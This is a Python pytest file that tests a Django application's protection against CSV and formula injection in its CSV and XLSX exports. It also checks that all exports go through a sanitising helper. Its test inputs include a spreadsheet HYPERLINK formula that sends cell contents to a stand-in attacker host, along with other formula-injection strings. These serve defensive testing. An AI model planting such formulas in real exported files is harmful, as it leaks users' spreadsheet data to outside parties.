"""No cell a user typed runs as a formula in a file Passerelle writes (CSV injection): every
CSV and XLSX goes through `passerelle.core.exports`."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import openpyxl
import pytest
from django.conf import settings
from django.urls import reverse
from hypothesis import example, given
from hypothesis import strategies as st

from passerelle.accounts.tests.factories import OrganisationFactory
from passerelle.coordination.tests.training_fixtures import make_training
from passerelle.core import exports
from passerelle.incidents.tests.factories import incident_factory
from passerelle.referrals.mapping import ImportRejected, error_report_xlsx, import_file
from passerelle.referrals.models import ServiceType
from passerelle.referrals.tests.factories import service_factory

HYPERLINK = '=HYPERLINK("http://attacker.test/?leak="&A1,"Click")'
ARITHMETIC = "-1+1"
RISKY = [HYPERLINK, ARITHMETIC, "+1+1", "@SUM(1,1)", "\t=1+1", "\r=1+1"]


# --------------------------------------------------------------------------- the helper


@pytest.mark.parametrize("text", RISKY)
def test_a_risky_text_is_written_with_an_apostrophe(text):
    assert exports.safe_cell(text) == "'" + text
    assert exports.unescape(exports.safe_cell(text)) == text


@pytest.mark.parametrize("value", [-1, 0, 2.5, "-12", "+3.5", "12", "Gao", "", "a=b"])
def test_numbers_and_plain_text_are_left_alone(value):
    assert exports.safe_cell(value) == value


def test_none_is_an_empty_cell_and_lazy_text_is_text():
    from django.utils.translation import gettext_lazy

    assert exports.safe_cell(None) == ""
    assert exports.safe_cell(gettext_lazy("Total")) == "Total"


@given(st.text())
@example("'\t")  # found in CI: a text starting with the apostrophe itself
def test_no_cell_starts_a_formula_and_the_text_comes_back(text):
    cell = exports.safe_cell(text)
    assert not cell.startswith(exports.FORMULA_START) or exports.PLAIN_NUMBER.match(cell)
    assert exports.unescape(cell) == text


def test_an_xlsx_stores_text_as_text_and_numbers_as_numbers():
    book = openpyxl.Workbook()
    exports.append(book.active, [HYPERLINK, ARITHMETIC, -1, 2.5, "bell\x07"])
    book.active["A2"] = "=1+1"  # even a cell set directly
    cells = _xlsx_cells(exports.xlsx_bytes(book))
    assert [c.value for c in cells] == [HYPERLINK, ARITHMETIC, -1, 2.5, "bell", "=1+1"]
    assert [c.data_type for c in cells] == ["s", "s", "n", "n", "s", "s"]


def test_appending_a_row_does_not_scan_the_sheet(monkeypatch):
    """A long export (the audit log, 5,000 rows on the demo) took 35 s: each row was read
    back through `sheet.max_row`, which visits every cell. Rows stay in order, text as text."""
    from openpyxl.worksheet.worksheet import Worksheet

    book = openpyxl.Workbook()
    sheet = book.active
    scans = []
    real = Worksheet.max_row.fget
    monkeypatch.setattr(Worksheet, "max_row", property(lambda ws: scans.append(1) or real(ws)))
    for number in range(300):
        exports.append(sheet, [f"={number}", number, None, "x\x07"])
    monkeypatch.undo()
    assert len(scans) < 5
    assert sheet.max_row == 300
    assert [c.value for c in sheet[300]] == ["=299", 299, None, "x"]
    assert [c.data_type for c in sheet[300] if c.value is not None] == ["s", "n", "s"]


def _xlsx_cells(content: bytes) -> list:
    book = openpyxl.load_workbook(io.BytesIO(content))
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a cell is a formula"
    return cells


def _csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


# --------------------------------------------------------------------------- every file


def test_every_csv_and_xlsx_is_written_through_the_helper():
    """A new export that writes with csv.writer or book.save directly fails here."""
    root = Path(settings.BASE_DIR) / "passerelle"
    found = []
    for path in root.rglob("*.py"):
        if "tests" in path.parts or path.name == "exports.py":
            continue
        text = path.read_text()
        for pattern in (r"\bcsv\.writer\(", r"\bcsv\.DictWriter\(", r"\.save\(\s*(out|buffer)"):
            if re.search(pattern, text):
                found.append(f"{path.relative_to(root)}: {pattern}")
        if "openpyxl.Workbook(" in text and "exports.xlsx_bytes(" not in text:
            found.append(f"{path.relative_to(root)}: a workbook not written by xlsx_bytes")
    assert not found, "\n".join(found)


@pytest.mark.django_db
def test_a_training_titled_as_a_formula_stays_text_in_the_xlsx(client_as, org, areas):
    make_training(org, areas["ML0506"], title=HYPERLINK, note=ARITHMETIC, language="@fr")
    response = client_as("viewer").get(reverse("coordination:training_xlsx"))
    assert response.status_code == 200
    cells = _xlsx_cells(response.content)
    by_value = {c.value: c for c in cells}
    assert by_value[HYPERLINK].data_type == "s"
    assert by_value[ARITHMETIC].data_type == "s"
    assert by_value["@fr"].data_type == "s"
    assert any(c.value == 20 and c.data_type == "n" for c in cells)  # participants: a number


@pytest.fixture
def services(org, areas, user_with_role):
    user_with_role("im_officer", org, username="drc.im")
    return service_factory(
        org,
        service_type=ServiceType.MEDICAL,
        areas=[areas["ML07"]],
        code="DRC-MED-01",
        name=HYPERLINK,
        description=ARITHMETIC,
        contact_phone="+223 70 00 00 01",
        capacity=25,
    )


@pytest.mark.django_db
def test_the_service_mapping_csv_and_xlsx_are_inert(client_as, services):
    client = client_as("viewer")
    text = client.get(reverse("referrals:service_export_hxl")).content.decode("utf-8-sig")
    cells = _csv_cells(text)
    assert "'" + HYPERLINK in cells and "'" + ARITHMETIC in cells
    assert "'+223 70 00 00 01" in cells and "25" in cells
    assert not [c for c in cells if c.startswith(exports.FORMULA_START)]
    xlsx = _xlsx_cells(client.get(reverse("referrals:service_export_xlsx")).content)
    assert {HYPERLINK, ARITHMETIC} <= {c.value for c in xlsx}
    assert any(c.value == 25 and c.data_type == "n" for c in xlsx)


@pytest.mark.django_db
def test_the_import_error_report_writes_the_rejected_cells_as_text(services, org):
    from django.contrib.auth import get_user_model

    actor = get_user_model().objects.get(username="drc.im")
    upload = (
        "Code,Service name,Provider (acronym),Service type,Minimum age\r\n"
        f'DRC-X-1,"{HYPERLINK.replace(chr(34), chr(34) * 2)}",DRC,medical_care,{ARITHMETIC}\r\n'
    ).encode()
    with pytest.raises(ImportRejected) as caught:
        import_file(actor, upload, "services.csv")
    cells = _xlsx_cells(error_report_xlsx(caught.value.payload()))
    assert {HYPERLINK, ARITHMETIC} <= {c.value for c in cells}


@pytest.mark.django_db
def test_the_incidents_csv_export_is_inert(client_as, areas, user_with_role):
    owner = OrganisationFactory(acronym="=1+1", name="Formula Org")
    monitor = user_with_role("monitor", owner)
    incident_factory(monitor, area=areas["ML0701"], classification=2)
    client = client_as("im_officer", owner)
    response = client.get(reverse("sharing:export"))
    assert response.status_code == 200
    cells = _csv_cells(response.content.decode())
    assert "'=1+1" in cells
    assert not [c for c in cells if c.startswith(exports.FORMULA_START)]
